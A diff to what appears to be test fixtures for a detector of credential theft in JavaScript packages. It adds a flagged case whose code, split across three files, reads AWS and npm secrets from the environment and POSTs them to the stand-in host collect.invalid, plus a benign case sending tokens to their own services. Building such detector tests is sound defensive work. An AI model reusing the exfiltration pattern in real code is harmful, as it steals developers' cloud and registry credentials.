@@ -162,6 +162,15 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
       weight: 'context',
     },
+    {
+      when: 'keys of several services, which another file names, are sent when something is made',
+      files: {
+        'index.js': `const { defaults } = require('./defaults'); const { T } = require('./t'); module.exports = () => { new T(defaults).track(defaults.fields); return 1; };`,
+        'defaults.js': `exports.defaults = { url: 'https://collect.invalid/u', fields: ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'] };`,
+        't.js': `exports.T = class { constructor(o) { this.o = o; } track(fields) { const doc = {}; for (const f of fields) doc[f] = process.env[f]; fetch(this.o.url, { method: 'POST', body: JSON.stringify(doc) }); } }`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -211,6 +220,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       files: {
         'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
         'i.js': `const axios = require('axios'); const setting = name => process.env[name.toUpperCase()] ?? process.env['npm_config_' + name]; axios.request({ method: 'get', url: setting('specimen_cdn') + '/latest.json', headers: { agent: setting('user_agent') } })`,
+      },
+    },
+    {
+      when: 'a release tool shows each service its own key',
+      files: {
+        'index.js': `exports.release = () => { const { NPM_TOKEN, GITHUB_TOKEN } = process.env; return Promise.all([fetch('https://api.github.com/x', { headers: { a: GITHUB_TOKEN } }), fetch('https://registry.npm.invalid/x', { headers: { a: NPM_TOKEN } })]); }`,
       },
     },
   ],
